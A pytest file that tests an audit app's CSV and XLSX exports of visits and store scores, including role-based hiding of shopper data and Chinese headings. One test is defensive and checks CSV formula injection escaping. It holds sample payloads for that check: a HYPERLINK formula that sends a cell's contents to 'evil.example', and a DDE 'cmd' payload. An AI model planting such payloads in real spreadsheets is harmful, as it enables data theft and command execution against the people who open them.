"""CSV and XLSX exports of visits (with item answers) and store scores."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from auditapp import analytics
from auditapp.scoring import fmt_score

from .factories import make_visit


def download(client, url: str) -> bytes:
    with client.get(url) as response:
        assert response.status_code == 200, (url, response.status_code)
        assert "attachment" in response.headers["Content-Disposition"]
        return response.get_data()


def read_csv(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens the UTF-8 correctly
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    width = len(rows[0])  # read-only mode drops trailing empty cells
    return [dict(zip(rows[0], [*row, *[None] * (width - len(row))], strict=True))
            for row in rows[1:]]


def _visits(chain):
    v0 = make_visit(chain, chain.stores[0], values={"speed_total": 240, "courtesy_smile": 0,
                                                    "quality_hot": "na"})
    v1 = make_visit(chain, chain.stores[1], shopper=chain.shoppers[1])
    return v0, v1


def test_hq_visit_exports(client, auth, chain):
    v0, v1 = _visits(chain)
    auth.login("hq@example.com")
    rows = read_csv(download(client, "/hq/reports/export/visits.csv?month=2026-05"))
    assert [int(r["Visit no."]) for r in rows] == [v0.id, v1.id]
    first = rows[0]
    assert first["Store"] == "上海南京西路店"
    assert first["Visit score"] == fmt_score(v0.score)
    assert first["speed_total"] == "240" and first["courtesy_smile"] == "No"
    assert first["quality_hot"] == "N/A" and first["courtesy_satisfaction"] == "90"
    assert first["Shopper"] == "MS-101"
    assert first["Speed of service"] == fmt_score(
        next(d.score for d in v0.dimension_scores if d.dimension == "speed"))
    xrows = read_xlsx(download(client, "/hq/reports/export/visits.xlsx?month=2026-05"))
    assert xrows[0]["Store"] == "上海南京西路店"
    assert xrows[0]["Visit score"] == float(fmt_score(v0.score))
    assert xrows[1]["Shopper"] == "MS-102"
    with client.get("/hq/reports/export/visits.pdf?month=2026-05") as r:
        assert r.status_code == 404


def test_store_score_exports_match_analytics(client, auth, chain):
    _visits(chain)
    period = analytics.Period.month("2026-05")
    expected = analytics.store_scores(period, with_trend=True)
    auth.login("hq@example.com")
    rows = read_csv(download(client, "/hq/reports/export/scores.csv?month=2026-05"))
    assert [r["Store code"] for r in rows] == [s.code for s in expected]
    for row, s in zip(rows, expected, strict=True):
        assert row["BDI"] == ("" if s.bdi is None else fmt_score(s.bdi))
        assert row["Mystery shop (MS)"] == ("" if s.ms is None else fmt_score(s.ms))
    xrows = read_xlsx(download(client, "/hq/reports/export/scores.xlsx?month=2026-05"))
    assert xrows[0]["Store"] == expected[0].name
    assert xrows[0]["BDI"] == float(fmt_score(expected[0].bdi))


def test_manager_exports_own_stores_without_shopper(client, auth, chain):
    v0, _v1 = _visits(chain)
    auth.login("m.e001@example.com")
    for fmt in ("csv", "xlsx"):
        data = download(client, f"/manager/reports/export/visits.{fmt}?month=2026-05")
        rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
        assert [int(r["Visit no."]) for r in rows] == [v0.id]
        assert "Shopper" not in rows[0]
        flat = data.decode("utf-8", "ignore") if fmt == "csv" else str(rows)
        assert "MS-101" not in flat and "Alice" not in flat
        data = download(client, f"/manager/reports/export/scores.{fmt}?month=2026-05")
        rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
        assert [r["Store code"] for r in rows] == ["E001"]


FORMULAS = {
    "E001": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "E002": "+1+cmd|' /C calc'!A0",
    "N001": "-2+3",
    "N002": "@SUM(A1:A9)",
}


def test_text_that_looks_like_a_formula_is_escaped(app, client, auth, chain):
    """Store and region names that a spreadsheet would run as formulas (OWASP "CSV
    Injection"): a CSV cell gets a leading apostrophe, an XLSX cell is stored as text
    with the quote prefix; numbers stay numbers."""
    from auditapp.extensions import db

    for store in chain.stores:
        store.name = FORMULAS[store.code]
    chain.regions[0].name = "\tEast"
    chain.regions[1].name = "\rNorth"
    db.session.commit()
    v0 = make_visit(chain, chain.stores[0])
    for store in chain.stores[1:]:
        make_visit(chain, store)
    regions = {"E001": "\tEast", "E002": "\tEast", "N001": "\rNorth", "N002": "\rNorth"}

    auth.login("hq@example.com")
    for url in ("/hq/reports/export/scores.csv?month=2026-05",
                "/hq/reports/export/visits.csv?month=2026-05"):
        rows = read_csv(download(client, url))
        assert {r["Store code"] for r in rows} == set(FORMULAS)
        for row in rows:
            assert row["Store"] == "'" + FORMULAS[row["Store code"]]
            assert row["Region"] == "'" + regions[row["Store code"]]
        if "scores" in url:
            assert all(float(r["BDI"]) >= 0 for r in rows)  # still plain numbers
    for url in ("/hq/reports/export/scores.xlsx?month=2026-05",
                "/hq/reports/export/visits.xlsx?month=2026-05"):
        data = download(client, url)
        sheet = load_workbook(io.BytesIO(data)).active
        header = [c.value for c in sheet[1]]
        name_col, region_col = header.index("Store"), header.index("Region")
        score_col = header.index("BDI" if "scores" in url else "Visit score")
        seen = set()
        for row in sheet.iter_rows(min_row=2):
            assert not any(c.data_type == "f" for c in row)  # no formula anywhere
            code = row[header.index("Store code")].value
            name, region, score = row[name_col], row[region_col], row[score_col]
            assert name.value == FORMULAS[code] and name.data_type == "s" and name.quotePrefix
            # (XML reads a lone CR back as LF)
            assert region.value.strip() == regions[code].strip() and region.quotePrefix
            assert score.data_type == "n" and not score.quotePrefix
            seen.add(code)
        assert seen == set(FORMULAS)

    auth.logout()
    auth.login("m.e001@example.com")
    rows = read_csv(download(client, "/manager/reports/export/visits.csv?month=2026-05"))
    assert [int(r["Visit no."]) for r in rows] == [v0.id]
    assert rows[0]["Store"] == "'" + FORMULAS["E001"]


def test_exports_speak_the_readers_language(client, auth, chain):
    """A Chinese reader gets Chinese headings and values (是/否, 不适用, labels); the item
    codes stay as column names, and the JSON API keeps its codes."""
    v0, _v1 = _visits(chain)
    auth.login("m.e001@example.com")
    client.post("/auth/language/zh_CN", data={"next": "/manager/"})
    for fmt in ("csv", "xlsx"):
        data = download(client, f"/manager/reports/export/visits.{fmt}?month=2026-05")
        rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
        first = rows[0]
        assert int(first["访店编号"]) == v0.id
        assert first["门店编号"] == "E001" and first["门店"] == "上海南京西路店"
        assert first["courtesy_smile"] == "否" and first["quality_hot"] == "不适用"
        assert first["满意"] in ("是", "否")
        assert first["访店类型"] in ("得来速", "外带", "堂食")
        assert "服务速度" in first and "访店得分" in first and "CSM 级度" in first
        assert not any(key in first for key in ("visit_id", "store_code", "score", "band"))
        data = download(client, f"/manager/reports/export/scores.{fmt}?month=2026-05")
        rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
        assert rows[0]["门店编号"] == "E001"
        headings = {"神秘顾客访店（MS）", "品质稽核（QA）", "投诉热线（HL）", "BDI", "环比"}
        assert headings <= set(rows[0])
